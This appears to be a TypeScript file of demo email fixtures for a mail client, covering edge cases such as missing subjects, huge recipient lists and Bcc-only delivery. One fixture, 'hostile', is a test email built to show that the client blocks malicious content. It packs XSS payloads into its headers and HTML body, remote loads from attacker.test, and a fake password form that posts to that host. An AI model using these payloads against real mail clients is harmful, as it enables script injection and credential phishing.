import { raw } from '../raw.ts';
import { type DemoMessage, mailbox, people } from '../scene.ts';

export const noSubject: DemoMessage = (scene) => ({
  from: mailbox(people[6]!),
  to: mailbox(scene.person),
  text: 'sorry, sent too early. call me?\n',
});

export const veryLongSubject: DemoMessage = (scene) => ({
  from: { name: 'Northgate Tracker', address: 'tracker@northgate.test' },
  to: mailbox(scene.person),
  subject: `[NG-${scene.digits(4)}] ${Array.from({ length: 24 }, () => 'When a customer changes the delivery address after paying, the old address is printed on the label').join('; also: ')}`,
  text: 'Someone pasted the description into the title again.\n',
});

export const wholeTeam: DemoMessage = (scene) => ({
  from: mailbox(people[0]!),
  to: Array.from({ length: 48 }, (_, i) => `team-member-${String(i + 1).padStart(2, '0')}@northgate.test`),
  cc: people.slice(1, 5).map(mailbox),
  subject: 'Summer party: the list of who brings what',
  text: `Hello everyone,\n\nsalads A to K, cakes L to Z, and please, nobody else bring hummus.\n\nSaturday, from four, by the river. If it rains, same place, more towels.\n\nMaya\n(${scene.day(20)})\n`,
});

/** Without recipients in the headers: all of them are in the envelope only. */
export const bccOnly: DemoMessage = (scene) => ({
  from: { name: 'Northgate People', address: 'people@northgate.test' },
  bcc: people.map((person) => person.address),
  subject: 'Your feedback stays anonymous',
  text: `Until ${scene.day(5)} you can tell us what we should change. We see answers, never names.\n\nhttps://people.northgate.test/feedback\n`,
});

/** What a shell script's \`mail\` sends: no date, no id, no MIME. */
export const bareMessage: DemoMessage = (scene) =>
  raw({
    from: 'root@db-3.northgate.test',
    to: scene.person.address,
    headers: [
      ['From', 'root@db-3.northgate.test (Cron Daemon)'],
      ['To', scene.person.address],
      ['Subject', 'Cron <root@db-3> /usr/local/bin/backup'],
    ],
    body: 'pg_dump: last built-in OID is 16383\npg_dump: reading extensions\n/usr/local/bin/backup: 41 tables, 3.2 GB, 94 s\n',
  });

/** Tries everything that a message must not be able to do. None of it works in Postern. */
export const hostile: DemoMessage = (scene) =>
  raw({
    from: 'curious@attacker.test',
    to: scene.person.address,
    headers: [
      ['From', '"<script>alert(1)</script>" <curious@attacker.test>'],
      ['To', scene.person.address],
      ['Subject', '<img src=x onerror=alert(document.domain)> harmless, really'],
      ['MIME-Version', '1.0'],
      ['Content-Type', 'text/html; charset=utf-8'],
    ],
    body: `<html><head>
<base href="https://attacker.test/">
<meta http-equiv="refresh" content="0; url=https://attacker.test/refreshed">
<style>@import url(https://attacker.test/import.css); body { background: url(https://attacker.test/style.png) }</style>
<script>top.document.title = 'taken over'; fetch('https://attacker.test/script')</script>
</head>
<body onload="alert('load')">
<h2>This mail tries to misbehave</h2>
<p>If you can read this and nothing else happened, it did not manage to.</p>
<img src="x" onerror="alert('error')">
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<iframe src="https://attacker.test/frame" srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
<form action="https://attacker.test/form"><input name="password" placeholder="Your password"><button>Log in again</button></form>
<p><a href="javascript:alert('link')">A link that is a script</a></p>
<div style="position:fixed;inset:0;z-index:99999;pointer-events:none;"></div>
</body></html>
`,
  });
